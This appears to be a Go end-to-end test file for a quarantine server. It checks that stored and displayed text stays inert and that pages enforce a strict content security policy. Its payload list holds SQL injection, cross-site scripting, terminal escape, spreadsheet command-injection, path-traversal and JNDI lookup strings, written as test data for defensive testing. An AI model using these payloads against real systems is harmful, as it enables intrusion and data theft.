//go:build servers

package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

// hostile is text that means something to a database, a browser, a terminal, a
// spreadsheet, a log reader or a person's eye.
func hostile() []string {
	return []string{
		`'; DROP TABLE quarantine; --`, `" OR 1=1 --`, `%' UNION SELECT value FROM meta --`, `\'); DELETE FROM users; --`,
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{constructor.constructor('alert(1)')()}}`,
		"\x1b[2J\x1b]0;owned\x07", "\x1b[31mred\x1b[0m", "\x9b31m", "\u009b31m", "\r\x1b[Kclean", "line\nforged=\"entry\"\nlevel=INFO",
		`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1",
		"\u202egnp.exe", "a\u2066b\u2069c", "zero\u200bwidth", "\ufeffbom", "nul\x00byte", "\u2028line\u2029separator",
		`../../../../etc/passwd`, `${jndi:ldap://x.example/a}`, `%s%s%s%n`, "\U0001F4A9", strings.Repeat("long", 5000),
	}
}

// Hostile text in a message's sender, type and data and in file names is kept,
// and comes out of the API, the command line and the log without anything that
// a terminal or a reader would obey.
func TestHostileText(t *testing.T) {
	t.Parallel()
	b := newBad(t)
	b.start()
	stream := b.listen()
	want := 0
	for i, text := range hostile() {
		data := map[string]any{text: "token " + b.secret(), "again": []string{text}}
		m, err := json.Marshal(map[string]any{"type": text, "from": text, "timestamp": text, "data": data, "hop_count": 1})
		mustDo(t, err)
		b.core.AppendStrings(string(m))
		b.append(b.entry(text + " token " + b.secret()))
		b.file(fileName(i, text), text+"\ntoken "+b.secret()+"\n"+text)
		want += 3
	}
	b.wantEntries(want)

	items, raw := b.list("/api/v1/quarantine?limit=10")
	if len(items) != want {
		t.Errorf("%d entries in the list, want %d", len(items), want)
	}
	checkKept(t, items)
	_, findings := b.list("/api/v1/findings?limit=500")
	checkPlain(t, "GET quarantine", raw)
	checkPlain(t, "GET findings", findings)
	checkPlain(t, "quarantine list", []byte(b.cli("quarantine", "list", "--limit", "1000")))
	for _, it := range items {
		id := it["id"].(string)
		_, detail := b.get("/api/v1/quarantine/" + id)
		checkPlain(t, "GET quarantine/"+id, detail)
		if it["bzzz_message_id"] == "" || it["redacted_content"] == "" {
			t.Errorf("entry %s lost what it was about: %v", id, it)
		}
	}
	for _, it := range items[:30] {
		checkPlain(t, "quarantine show", []byte(b.cli("quarantine", "show", it["id"].(string))))
	}
	checkPlain(t, "doctor", []byte(b.cli("doctor")))
	checkPlain(t, "GET stream", stream())
	b.hostileQueries()
	b.stillCatches(0)
	b.stop()
	checkPlain(t, "output of serve", []byte(b.output()))
}

// checkKept makes sure that text which can be shown as it is was not lost on
// the way through the database and out again.
func checkKept(t *testing.T, items []map[string]any) {
	t.Helper()
	kept := map[any]bool{}
	for _, it := range items {
		if it["from"] == it["message_type"] {
			kept[it["from"]] = true
		}
	}
	for _, text := range hostile() {
		short := len(text) < 100 && utf8.ValidString(text) && strings.IndexFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) < 0
		if short && !kept[text] {
			t.Errorf("no entry is from %q", text)
		}
	}
}

// fileName is as much of a text as a file may be called.
func fileName(i int, text string) string {
	name := strings.NewReplacer("/", "_", "\x00", "_").Replace(text)
	return fmt.Sprintf("%.200s-%d.txt", name, i)
}

// checkPlain reports characters that a terminal or a reader would obey.
func checkPlain(t *testing.T, where string, text []byte) {
	t.Helper()
	if !utf8.Valid(text) {
		t.Errorf("%s is not valid UTF-8", where)
	}
	bad := func(r rune) bool { return r != '\n' && r != ' ' && !unicode.IsPrint(r) }
	if i := bytes.IndexFunc(text, bad); i >= 0 {
		t.Errorf("%s holds a raw control or format character at byte %d: %q", where, i, text[max(0, i-40):min(len(text), i+20)])
	}
}

// hostileQueries asks for what no list has: the answer is a list or a refusal,
// never an error of ours.
func (b *bad) hostileQueries() {
	b.t.Helper()
	for _, text := range hostile() {
		for _, param := range []string{"source", "rule", "cursor", "severity", "limit", "reviewed"} {
			req, err := http.NewRequest(http.MethodGet, "http://"+b.addr+"/api/v1/quarantine", nil)
			mustDo(b.t, err)
			q := req.URL.Query()
			q.Set(param, text)
			req.URL.RawQuery = q.Encode()
			req.Header.Set("Authorization", "Bearer "+b.key)
			resp, err := http.DefaultClient.Do(req)
			mustDo(b.t, err)
			_ = resp.Body.Close()
			if resp.StatusCode >= 500 {
				b.t.Errorf("%s=%.40q: status %d", param, text, resp.StatusCode)
			}
		}
	}
}

var (
	inlineScript  = regexp.MustCompile(`(?is)<script(?:\s[^>]*)?>\s*[^<\s]`)
	inlineHandler = regexp.MustCompile(`(?i)<[^>]+\son[a-z]+\s*=`)
)

// Every page forbids inline script by its policy, and has none.
func TestPagesForbidInlineScript(t *testing.T) {
	t.Parallel()
	n := newNode(t, "")
	n.start()
	client := &http.Client{Timeout: time.Minute}
	for _, page := range []string{"/", "/login", "/setup", "/quarantine", "/sources", "/rules", "/webhooks", "/no/such/page", "/api/v1/nothing", "/<script>alert(1)</script>"} {
		resp, err := client.Get("http://" + n.addr + page)
		mustDo(t, err)
		var body bytes.Buffer
		_, err = body.ReadFrom(resp.Body)
		mustDo(t, err)
		mustDo(t, resp.Body.Close())
		checkPolicy(t, page, resp.Header.Get("Content-Security-Policy"))
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: browsers may guess its type", page)
		}
		if inlineScript.Match(body.Bytes()) || inlineHandler.Match(body.Bytes()) || bytes.Contains(body.Bytes(), []byte("alert(1)")) {
			t.Errorf("%s has inline script:\n%.400s", page, body.String())
		}
	}
}

func checkPolicy(t *testing.T, page, policy string) {
	t.Helper()
	rules := map[string]string{}
	for part := range strings.SplitSeq(policy, ";") {
		name, value, _ := strings.Cut(strings.TrimSpace(part), " ")
		rules[name] = value
	}
	scripts, ok := rules["script-src"]
	if !ok {
		scripts, ok = rules["default-src"]
	}
	for _, word := range []string{"unsafe-inline", "unsafe-eval", "*", "data:", "http:", "https:"} {
		if !ok || strings.Contains(scripts, word) {
			t.Errorf("%s: the policy allows script by %q: %q", page, word, policy)
		}
	}
	for _, name := range []string{"object-src", "base-uri", "frame-ancestors"} {
		if v := rules[name]; v != "'none'" && !(name == "object-src" && v == "" && rules["default-src"] == "'none'") && v != "'self'" {
			t.Errorf("%s: the policy leaves %s open: %q", page, name, policy)
		}
	}
}
